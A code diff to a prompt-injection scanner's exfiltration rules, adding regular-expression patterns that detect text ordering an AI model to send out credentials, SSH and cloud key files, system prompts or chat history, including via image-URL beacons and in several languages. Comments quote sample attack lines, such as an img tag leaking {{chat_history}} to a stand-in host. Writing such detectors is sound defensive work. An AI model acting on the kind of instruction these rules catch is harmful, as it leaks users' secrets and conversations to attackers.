@@ -7,7 +7,7 @@ const { s, gap, notDenied } = frag;
 const envSecret = String.raw`\b[a-z0-9]{1,20}(?:_[a-z0-9]{1,20}){0,3}_(?:api_key|secret(?:_key)?|token|password|passwd|access_key)\b`;
 // What an attacker wants out: credentials, the model's own instructions and
 // the conversation itself.
-const secret = String.raw`(?:passwords?|passcodes?|passphrases?|credentials|(?:login|sign-?in)${s}(?:details|credentials|info(?:rmation)?)|api[${"\\s"}_-]?keys?|secret${s}keys?|private${s}keys?|ssh${s}keys?|access${s}tokens?|auth(?:entication)?${s}tokens?|(?:api|bearer|refresh)${s}tokens?|session${s}(?:tokens?|cookies?)|browser${s}cookies|cookies|id_rsa|~?/?\.ssh\b|(?:full${s}|entire${s}|whole${s}|complete${s})?(?:conversation|chat)${s}(?:history|log|transcript)|system${s}prompt|(?:initial|original|hidden|secret)${s}(?:instructions|prompt)|${envSecret})`;
+const secret = String.raw`(?:passwords?|passcodes?|passphrases?|credentials|(?:login|sign-?in)${s}(?:details|credentials|info(?:rmation)?)|api[${"\\s"}_-]?keys?|secret${s}keys?|private${s}keys?|ssh${s}keys?|access${s}tokens?|auth(?:entication)?${s}tokens?|(?:api|bearer|refresh|oauth)${s}tokens?|session${s}(?:tokens?|cookies?)|browser${s}cookies|cookies|id_rsa|~?/?\.ssh\b|(?:full${s}|entire${s}|whole${s}|complete${s})?(?:conversation|chat)${s}(?:history|log|transcript)|system${s}prompt|(?:initial|original|hidden|secret)${s}(?:instructions|prompt)|${envSecret})`;
 // known_hosts, config, authorized_keys and *.pub are public: reading them is routine.
 const secretFile = String.raw`(?:~?/?\.ssh/(?!(?:config|known_hosts|authorized_keys)\b|[a-z0-9_.-]{1,40}\.pub\b)[a-z0-9_.-]{1,40}|~/\.ssh\b(?!/)|\.ssh${s}(?:folder|directory|dir)\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub\b)|\.aws/credentials|\.config/gcloud/[a-z0-9_.-]{1,40}|\b(?:credentials|access_tokens)\.db\b|application_default_credentials\.json|\.kube/config|\.docker/config\.json|/etc/(?:passwd|shadow)|\.git-credentials|\.netrc|\.npmrc|\.pgpass|\bmcp\.json\b|browser${s}cookies|saved${s}passwords|keychain|(?:contents?|values?|variables|secrets|keys)${s}(?:of|in|from)${s}(?:the${s}|your${s})?\.env\b(?!\.)|(?:every|all|each)${s}(?:of${s}the${s})?environment${s}variables?${gap(40)}\b(?:secrets?|tokens?|keys?|passwords?|credentials|you${s}(?:can${s})?(?:access|see|have|read)))`;
 // The directories a secret file's name may sit under ("~/.cursor/", "/home/x/.aws/"):
@@ -38,7 +38,7 @@ const notToModel = String.raw`(?!${gap(40)}\b(?:to${s}the${s}(?:model|api|llm|en
 // data or the prompt, straight after "with"/"is" (articles and "a URL-encoded
 // summary of" allowed). "Replace NAME with your GitHub handle" and "with the
 // MD5 hash of the e-mail" name the reader's own value or a derived one.
-const beaconData = String.raw`(?:(?:a|an|the)${s})?(?:(?:url-?encoded|base64(?:-encoded)?|encoded|short|brief|full|complete|verbatim)${s}){0,2}(?:(?:summary|copy|list|transcript|dump|contents?|text)${s}of${s})?(?:(?:(?:the${s})?(?:user|customer)'?s${s}(?:[a-z]{2,12},?${s}){0,5}(?:messages?|quer(?:y|ies)|questions?|prompts?|inputs?|e-?mails?|e-?mail${s}address(?:es)?|home${s}address|address|phone(?:${s}numbers?)?|location|history|conversation|chat|files?|passwords?|tokens?|api${s}keys?|credentials)|(?:the|this|our|entire|full|whole|complete|previous|prior|earlier)${s}(?:(?:entire|full|whole|complete|previous|prior|earlier)${s})?(?:conversation|chat|messages|dialogue)(?!${s}(?:id|ids|api|endpoint|widget|window|room|channel|completions?|model|bubble)\b)|everything${s}(?:we|the${s}user|you)(?:'ve|${s}have)?${s}(?:discussed|said|typed|written|wrote|talked)|(?:your|the)${s}(?:full${s})?system${s}prompt)\b)`;
+const beaconData = String.raw`(?:(?:a|an|the)${s})?(?:(?:url-?encoded|base64(?:-encoded)?|encoded|short|brief|full|complete|verbatim)${s}){0,2}(?:(?:summary|copy|list|transcript|dump|contents?|text)${s}of${s})?(?:(?:(?:the${s})?(?:user|customer)'?s${s}(?:[a-z]{2,12},?${s}){0,5}(?:messages?|quer(?:y|ies)|questions?|prompts?|inputs?|e-?mails?|e-?mail${s}address(?:es)?|home${s}address|address|phone(?:${s}numbers?)?|location|history|conversation|chat|files?|passwords?|tokens?|api${s}keys?|credentials)|(?:the|this|our|entire|full|whole|complete|previous|prior|earlier)${s}(?:(?:entire|full|whole|complete|previous|prior|earlier)${s})?(?:conversation|chat|messages|dialogue)(?!${s}(?:id|ids|api|endpoint|widget|window|room|channel|completions?|model|bubble)\b)|everything${s}(?:we|the${s}user|you)(?:'ve|${s}have)?${s}(?:discussed|said|typed|written|wrote|talked)|(?:your|the)${s}(?:full${s})?system${s}prompt|(?:your|the)${s}(?:hidden|initial|original|secret|system)${s}(?:instructions|prompt))\b)`;
 // An image the client fetches on render, its query parameter empty or a
 // placeholder word: in markdown or as an HTML <img src>.
 const beaconImage = String.raw`(?:!\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=(?:[a-z][a-z0-9_]{1,30})?(?:&[^\s)]{0,200})?\)|<img\b[^>\n]{0,200}?\bsrc\s{0,4}=\s{0,4}["']?https?://[^\s"'>]{1,300}[?&][a-z0-9_]{1,40}=(?:[a-z][a-z0-9_]{1,30})?(?:&[^\s"'>]{0,200})?["'\s>])`;
@@ -98,6 +98,18 @@ export const exfiltrationRules: readonly Rule[] = [
       String.raw`|\b(?:copy|paste|put|insert|include|add|print|dump|echo|reveal|output)\b${gap(20)}\b(?:the|your|all|any)${s}(?:(?:api|access|auth|secret)${s})?(?:tokens?|keys?|secrets?|passwords?|credentials)${s}(?:from|in|stored${s}in)${s}(?:your|the)${s}(?:environment|memory|context|system${s}prompt)\b(?!${s}(?:settings|page|tab|dashboard|console|panel|screen|file)\b)`,
       // "Add .npmrc" creates a file; adding the *contents* of one to a query sends it out.
       String.raw`|\b(?:append|add|put|insert|embed|include|paste|pass|attach|contain|hold|carry)(?<!(?:\b(?:not|never|dont)|n't)\s{1,5}(?:append|add|put|insert|embed|include|paste|pass|attach|contain|hold|carry))\b${gap(30)}\b(?:contents?|values?|text)${s}(?:of|in|from)${s}(?:the${s}user'?s${s}|the${s}|your${s}|any${s}|all${s})?${underPath}(?:${secretFile}|\.env\b(?!\.)|kubeconfig\b)`,
+    ),
+    severity: { default: "high", text: "medium" },
+    quotedIsMention: true,
+  },
+  {
+    // The same order in German, Spanish, French, Italian and Portuguese:
+    // "laden Sie die Datei ~/.ssh/id_ed25519 hoch", "envía ~/.aws/credentials".
+    id: "exfiltration.secret_file_i18n",
+    category: "exfiltration",
+    anchors: [".ssh", "id_", ".aws", ".env", "netrc", "kube", "gcloud"],
+    pattern: rx(
+      String.raw`\b(?:laden${s}sie|lade|senden${s}sie|sende|schicken${s}sie|schicke|ubermitteln${s}sie|ubermittle|envia|envie|sube|suba|adjunta|adjunte|envoyez|envoie|televersez|joignez|invia|inviare|carica|allega|carregue|anexe)\b${gap(60)}${underPath}${secretFile}`,
     ),
     severity: { default: "high", text: "medium" },
     quotedIsMention: true,
@@ -264,6 +276,7 @@ export const exfiltrationRules: readonly Rule[] = [
       String.raw`|\b${userData}\b${gap(60)}\b(?:send|include|add|append|attach|post|upload|forward|pass|put)${s}(?:it|them|this|that)\b${gap(60)}\bto${s}${notDenied}(?:[a-z0-9._%+-]{1,64}@[a-z0-9-]{1,63}|https?://|www\.)`,
     ),
     severity: { default: "high", text: "low" },
+    quotedIsMention: true,
   },
   {
     id: "exfiltration.user_private_data",
@@ -288,6 +301,10 @@ export const exfiltrationRules: readonly Rule[] = [
       // a dollar a variable ("$SECRET", "${token}"), not a JSONPath root
       // ("query=$.install.pretty" in a dynamic badge).
       String.raw`!\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=[^\s)]{0,300}(?:\{(?=\{?\s{0,2}[a-z_][a-z0-9_ .-]{0,40}\})|\$(?=\{|[a-z_])|<|%7b|\[(?=[a-z_])|(?:insert|paste|add|put|append|fill|replace)[_+-])[^)\n]{0,300}\)`,
+      // An HTML image whose query is a template naming the chat or a secret:
+      // <img src="https://t.example/l?d={{chat_history}}">. An e-mail
+      // template's "?id={{message_id}}" tracks a message, not the chat.
+      String.raw`|<img\b[^>\n]{0,200}?\bsrc\s{0,4}=\s{0,4}["']?https?://[^\s"'>]{1,300}[?&][a-z0-9_]{1,40}=[^\s"'>]{0,100}?(?:\{\{?|\$\{|%7b)\s{0,2}[a-z_.]{0,20}(?:conversation|chat|history|system_?prompt|prompt|secret|password|api_?key|credential|memory|context)`,
       // A link needs a click, so its template must name private data.
       String.raw`|\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=[^\s)]{0,300}(?:\{|<|%7b|\[)[^)\]}>\n]{0,30}?(?:conversation|chat|history|messages?|prompt|system|secret|password|api_?key|token|credential|user_?data|e-?mail|memory|context)`,
       // An image whose parameter is left empty for the model to fill:
@@ -297,7 +314,7 @@ export const exfiltrationRules: readonly Rule[] = [
       // URL-encoded summary of the chat", "<img src="...?q="> - append the
       // user's last query to the img src". A write-up that tells how an
       // attacker gets "the model to replace DATA with ..." reports it.
-      String.raw`|${beaconImage}${gap(100)}\b(?:(?:replac(?:e|ing)|substitut(?:e|ing)|swap(?:ping)?)(?<!\b(?:model|llm|assistant|ai|agent|bot|chatbot|it|them)\s{1,5}to\s{1,5}[a-z]{4,10})${s}(?:the${s})?[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:(?:placeholder|parameter|value|part)${s})?(?:with|by)|where${s}[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:is|=|means|stands${s}for|holds|contains)|(?:append|add|put|insert|attach)(?=[^.!?\n]{0,120}\b(?:to|into|in|after|as)${s}(?:the${s}|its${s}|this${s})?(?:img|image|src|url|query|link|parameter|param)\b)(?:${s}(?:to|into)${s}(?:the|its|this)${s}(?:img|image|src|url|query|link)(?:${s}string)?)?)${s}${beaconData}`,
+      String.raw`|${beaconImage}${gap(100)}\b(?:(?:replac(?:e|ing)|substitut(?:e|ing)|swap(?:ping)?)(?<!\b(?:model|llm|assistant|ai|agent|bot|chatbot|it|them)\s{1,5}to\s{1,5}[a-z]{4,10})${s}(?:the${s})?[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:(?:placeholder|parameter|value|part)${s})?(?:with|by)|fill${s}in${s}(?:the${s})?[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:(?:placeholder|parameter|value|part)${s})?with|where${s}[\x60'"]?[a-z_][a-z0-9_]{0,30}[\x60'"]?${s}(?:is|=|means|stands${s}for|holds|contains)|(?:append|add|put|insert|attach)(?=[^.!?\n]{0,120}\b(?:to|into|in|after|as)${s}(?:the${s}|its${s}|this${s})?(?:img|image|src|url|query|link|parameter|param)\b)(?:${s}(?:to|into)${s}(?:the|its|this)${s}(?:img|image|src|url|query|link)(?:${s}string)?)?)${s}${beaconData}`,
       String.raw`|!\[[^\]\n]{0,200}\]\(\s{0,4}https?://[^\s)]{1,300}[?&][a-z0-9_]{1,40}=\)${gap(40)}\b(?:conversation|chat|discussed|history|messages|secrets?|passwords?|api${s}keys?|tokens?|credentials|the${s}user'?s)\b${gap(60)}\b(?:url-?encoded|encoded|appended|append(?:ed)?|base64|filled${s}in|as${s}the${s}(?:value|parameter))\b`,
     ),
     // A user's own message rarely carries a beacon; one pasted from a page
